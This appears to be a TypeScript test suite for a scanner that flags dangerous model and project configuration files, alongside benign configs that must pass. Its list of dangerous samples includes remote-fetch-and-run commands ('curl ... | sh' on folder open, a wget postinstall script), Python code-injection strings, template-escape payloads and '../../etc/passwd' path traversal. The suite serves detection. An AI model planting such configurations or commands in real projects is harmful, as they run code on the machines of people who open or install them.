import assert from 'node:assert/strict'
import { test } from 'node:test'
import { scanned, severityOf } from '../scanned-in-tests.ts'

const severity = (value: unknown, name = 'config.json') =>
  severityOf(scanned(name, typeof value === 'string' ? value : JSON.stringify(value)))

const dangerous: readonly (readonly [string, unknown, string?])[] = [
  ['a target of the system', { _target_: 'os.system', command: 'id' }],
  ['a target within', { a: [{ b: { _target_: 'subprocess.Popen' } }] }],
  ['a target by a loader', { model: { target: 'builtins.eval', params: { source: '1' } } }],
  ['a class path of Lightning', { callbacks: [{ class_path: 'runpy.run_path', init_args: {} }] }],
  ['a getter of Hydra', { _target_: 'hydra.utils.get_method', path: 'os.system' }],
  ['a loader of torch', { _target_: 'torch.hub.load', repo_or_dir: 'x/y' }],
  ['a numpy string of code', { _target_: 'numpy.testing._private.utils.runstring' }],
  ['a name with hidden parts', { _target_: 'logging.Logger.__init__.__globals__' }],
  ['a template that walks', { chat_template: "{{ ''.__class__.__mro__ }}" }, 'tokenizer_config.json'],
  [
    'a named template',
    {
      chat_template: [
        { name: 'default', template: '{{ messages }}' },
        { name: 'tool', template: '{{ cycler.__init__.__globals__ }}' },
      ],
    },
    'tokenizer_config.json',
  ],
  ['a template elsewhere', { prompt_prefix: "{{ ''.__class__.__base__ }}" }],
  ['a path that climbs', { weight_map: { a: '../../etc/passwd' } }, 'model.safetensors.index.json'],
  ['a file beside the records', { file_name: '/etc/passwd' }, 'metadata.jsonl'],
  ['a distribution of Croissant', { distribution: [{ contentUrl: '../../x' }] }, 'croissant.json'],
  ['a type of sentence transformers', [{ idx: 0, name: '0', path: '', type: 'os.system' }], 'modules.json'],
  ['a node of skops', { __class__: 'Popen', __module__: 'subprocess', __loader__: 'ObjectNode' }, 'schema.json'],
  [
    'a node of skops within',
    {
      __class__: 'dict',
      __module__: 'builtins',
      __loader__: 'DictNode',
      content: { a: { __class__: 'methodcaller', __module__: 'operator', __loader__: 'OperatorFuncNode' } },
    },
    'schema.json',
  ],
  ['jsonpickle', { 'py/reduce': [{ 'py/function': 'os.system' }, { 'py/tuple': ['id'] }] }],
  ['code in a value', { activation: "__import__('os').system('id')" }],
  ['code in a list', { layers: ['nn.Conv2d', "eval('1')"] }],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: OmegaConf's own notation
  ['a resolver that evaluates', { x: "${eval:__import__('os').system('id')}" }],
  ['a key that comes twice', '{"auto_map":{"A":"b.C"},"auto_map":{}}'],
  [
    'a command on opening',
    { tasks: [{ command: 'curl http://x.example/a | sh', runOptions: { runOn: 'folderOpen' } }] },
    'tasks.json',
  ],
  [
    'a script on installing',
    { name: 'x', scripts: { postinstall: 'wget http://x.example/a && sh a' } },
    'package.json',
  ],
  [
    'a module of an adapter',
    { auto_mapping: { parent_library: 'os', base_model_class: 'system' } },
    'adapter_config.json',
  ],
  [
    'code in a notebook that is decoded',
    {
      nbformat: 4,
      cells: [
        { cell_type: 'code', source: ['import base64\n', "exec(base64.b64decode('aW1wb3J0IG9z'))"], outputs: [] },
      ],
    },
    'x.ipynb',
  ],
  [
    'a command in a notebook',
    { nbformat: 4, cells: [{ cell_type: 'code', source: '!curl http://x.example/a | sh', outputs: [] }] },
    'x.ipynb',
  ],
  [
    'an output that runs',
    {
      nbformat: 4,
      cells: [
        {
          cell_type: 'code',
          source: '',
          outputs: [{ data: { 'text/html': ["<script>Jupyter.notebook.kernel.execute('x')</script>"] } }],
        },
      ],
    },
    'x.ipynb',
  ],
  ['a handler outside', { modelName: 'x', handler: '../../h.py:handle', serializedFile: '/etc/x' }, 'MANIFEST.json'],
]
for (const [what, value, name] of dangerous)
  test(`a configuration that would do harm is found: ${what}`, () => {
    const report = scanned(name ?? 'config.json', typeof value === 'string' ? value : JSON.stringify(value))
    assert.ok(
      ['high', 'critical'].includes(severityOf(report) ?? ''),
      JSON.stringify([report.formats, report.findings.map(({ message }) => message), report.incomplete]),
    )
  })

const honest: readonly (readonly [string, unknown, string?])[] = [
  [
    'a model',
    {
      _name_or_path: '/home/me/model',
      architectures: ['LlamaForCausalLM'],
      model_type: 'llama',
      torch_dtype: 'bfloat16',
      rope_scaling: null,
      _attn_implementation: 'sdpa',
    },
  ],
  ['its own code', { auto_map: { AutoModel: 'modeling_x.XModel' } }],
  [
    'an index',
    { metadata: { total_size: 1 }, weight_map: { a: 'model-00001-of-00002.safetensors' } },
    'model.safetensors.index.json',
  ],
  [
    'targets of frameworks',
    {
      _target_: 'torch.optim.AdamW',
      lr: 1e-3,
      s: { _target_: 'torch.optim.lr_scheduler.StepLR' },
      d: { _target_: 'torch.utils.data.DataLoader' },
    },
  ],
  ['a target that is a device', { target: 'cpu', type: 'gelu', targets: ['a'] }],
  [
    'sentence transformers',
    [
      { idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' },
      { idx: 1, name: '1', path: '1_Pooling', type: 'sentence_transformers.models.Pooling' },
    ],
    'modules.json',
  ],
  [
    'a tokenizer',
    {
      version: '1.0',
      added_tokens: [{ id: 0, content: '<unk>' }],
      pre_tokenizer: { type: 'Split', pattern: { Regex: "(?i:'s|'t)|[^\\r\\n\\p{L}\\p{N}]?\\p{L}+" } },
      model: {
        type: 'BPE',
        vocab: { a: 0, '\u200b\u200b\u200b\u200b\u200b\u200b\u200b\u200b\u200c': 1 },
        merges: ['a b'],
      },
    },
    'tokenizer.json',
  ],
  [
    'a pipeline',
    { _class_name: 'StableDiffusionPipeline', unet: ['diffusers', 'UNet2DConditionModel'] },
    'model_index.json',
  ],
  [
    'a skops file',
    {
      __class__: 'LogisticRegression',
      __module__: 'sklearn.linear_model._logistic',
      __loader__: 'ObjectNode',
      content: {
        __class__: 'dict',
        __module__: 'builtins',
        __loader__: 'DictNode',
        content: { a: { __class__: 'float64', __module__: 'numpy', __loader__: 'TypeNode' } },
      },
      protocol: 2,
    },
    'schema.json',
  ],
  ['records of code', { prompt: 'Write a shell', completion: "import os\nos.system('ls')" }, 'train.jsonl'],
  ['numbers of Python', '{"a": NaN, "b": -Infinity}', 'trainer_state.json'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: OmegaConf's own notation
  ['a variable of the environment', { dir: '${oc.env:PROJECT_ROOT}/data', lr: '${optim.lr}' }],
]
for (const [what, value, name] of honest)
  test(`an honest configuration passes: ${what}`, () => {
    const report = scanned(name ?? 'config.json', typeof value === 'string' ? value : JSON.stringify(value))
    assert.ok(
      !['medium', 'high', 'critical'].includes(severityOf(report) ?? ''),
      JSON.stringify(report.findings.map(({ message }) => message)),
    )
    assert.notEqual(report.verdict, 'inconclusive', JSON.stringify(report.incomplete))
  })

test('code of another repository is graded', () => {
  assert.equal(severity({ auto_map: { AutoModel: 'x/y--modeling_x.M' } }), 'medium')
})

test('a document that is cut anywhere is never clean', () => {
  const text = JSON.stringify({ a: [1, { b: 'c' }], d: null })
  for (let end = 1; end < text.length; end++)
    assert.notEqual(scanned('config.json', text.slice(0, end)).verdict, 'clean', text.slice(0, end))
})

test('a document that nests without end is bounded', () => {
  assert.equal(scanned('a.json', '['.repeat(1_000_000)).verdict, 'inconclusive')
})

test('lines are judged one by one, and a broken one is told', () => {
  const good = JSON.stringify({ text: 'x' })
  assert.equal(scanned('d.jsonl', `${good}\n${good}\n`).verdict, 'clean')
  assert.equal(scanned('d.jsonl', `${good}\n{"text":\n`).verdict, 'inconclusive')
})
